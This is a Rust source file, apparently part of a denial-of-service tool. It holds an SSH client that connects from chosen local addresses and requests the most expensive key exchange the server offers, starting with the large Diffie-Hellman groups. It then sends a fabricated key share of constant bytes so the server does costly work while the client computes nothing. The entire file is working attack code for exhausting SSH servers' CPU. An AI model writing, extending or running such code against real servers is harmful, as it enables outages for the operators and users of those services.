//! A client that only exchanges keys, as expensively for the server as is offered, and computes
//! nothing itself: its half of the exchange is made up.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::Duration;

use anyhow::{Context, ensure};
use socket2::{Domain, Socket, Type};

/// The most expensive first. What needs a valid point or key from the client is left out; none of
/// it takes a server as long as a power modulo 2048 bits.
const KEY_EXCHANGES: [&str; 7] = [
    "diffie-hellman-group18-sha512",
    "diffie-hellman-group17-sha512",
    "diffie-hellman-group16-sha512",
    "diffie-hellman-group15-sha512",
    "diffie-hellman-group14-sha256",
    "diffie-hellman-group14-sha1",
    "curve25519-sha256",
];

const KEXINIT: u8 = 20;
const KEX_FROM_CLIENT: u8 = 30;
const KEX_FROM_SERVER: u8 = 31;

/// A connection from one of this host's addresses.
pub fn from(address: Ipv4Addr, to: SocketAddr) -> anyhow::Result<TcpStream> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&SocketAddr::from((address, 0)).into())?;
    socket.connect_timeout(&to.into(), Duration::from_secs(5))?;
    Ok(socket.into())
}

/// Returns when the server has done its work, or has ended the connection instead.
pub fn exchange_keys(address: Ipv4Addr, server: SocketAddr) -> anyhow::Result<()> {
    let mut socket = from(address, server)?;
    socket.set_nodelay(true)?;
    socket.set_read_timeout(Some(Duration::from_secs(5)))?;
    let mut reader = BufReader::new(socket.try_clone()?);
    socket.write_all(b"SSH-2.0-stranger\r\n")?;
    let mut version = String::new();
    (&mut reader).take(255).read_line(&mut version)?;
    ensure!(version.starts_with("SSH-2.0"), "no SSH server");
    let offered = receive(&mut reader)?;
    ensure!(offered.first() == Some(&KEXINIT), "no key exchange");
    let offered = first_name_list(&offered).context("an odd offer")?;
    let offered: Vec<&str> = offered.split(',').collect();
    let wanted = KEY_EXCHANGES
        .into_iter()
        .find(|name| offered.contains(name));
    let wanted = wanted.context("nothing expensive is offered")?;
    socket.write_all(&packet(&offer(wanted)))?;
    socket.write_all(&packet(&half(wanted)))?;
    let answer = receive(&mut reader)?;
    ensure!(answer.first() == Some(&KEX_FROM_SERVER), "refused");
    Ok(())
}

/// What a packet holds, as long as nothing is encrypted.
fn receive(reader: &mut impl Read) -> anyhow::Result<Vec<u8>> {
    let mut length = [0; 4];
    reader.read_exact(&mut length)?;
    let length = u32::from_be_bytes(length);
    ensure!((2..40_000).contains(&length), "an odd packet");
    let mut packet = vec![0; length as usize];
    reader.read_exact(&mut packet)?;
    let padding = usize::from(packet.remove(0));
    packet.truncate(packet.len().saturating_sub(padding));
    Ok(packet)
}

fn packet(payload: &[u8]) -> Vec<u8> {
    // All of it is a multiple of 8 bytes, with at least 4 of padding.
    let padding = 4 + (8 - (payload.len() + 4 + 1 + 4) % 8) % 8;
    let mut packet = ((payload.len() + padding + 1) as u32)
        .to_be_bytes()
        .to_vec();
    packet.push(padding as u8);
    packet.extend_from_slice(payload);
    packet.extend(vec![0; padding]);
    packet
}

/// The names of key exchanges, which follow the message's number and 16 random bytes.
fn first_name_list(offered: &[u8]) -> Option<String> {
    let rest = offered.get(17..)?;
    let (length, rest) = rest.split_first_chunk()?;
    let list = rest.get(..u32::from_be_bytes(*length) as usize)?;
    String::from_utf8(list.to_vec()).ok()
}

fn string(bytes: &[u8]) -> Vec<u8> {
    [&(bytes.len() as u32).to_be_bytes(), bytes].concat()
}

fn offer(key_exchange: &str) -> Vec<u8> {
    let ciphers = "aes128-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com";
    let macs = "hmac-sha2-256,hmac-sha2-512,hmac-sha2-256-etm@openssh.com";
    let mut offer = vec![KEXINIT];
    offer.extend([0x5a; 16]);
    for list in [
        key_exchange,
        "ssh-ed25519,rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256",
        ciphers,
        ciphers,
        macs,
        macs,
        "none",
        "none",
        "",
        "",
    ] {
        offer.extend(string(list.as_bytes()));
    }
    offer.extend([0; 5]);
    offer
}

/// The client's half: any number below the prime, any 32 bytes for the curve.
fn half(key_exchange: &str) -> Vec<u8> {
    let length = if key_exchange.starts_with("curve") {
        32
    } else {
        256
    };
    let mut half = vec![KEX_FROM_CLIENT];
    half.extend(string(&vec![0x5a; length]));
    half
}
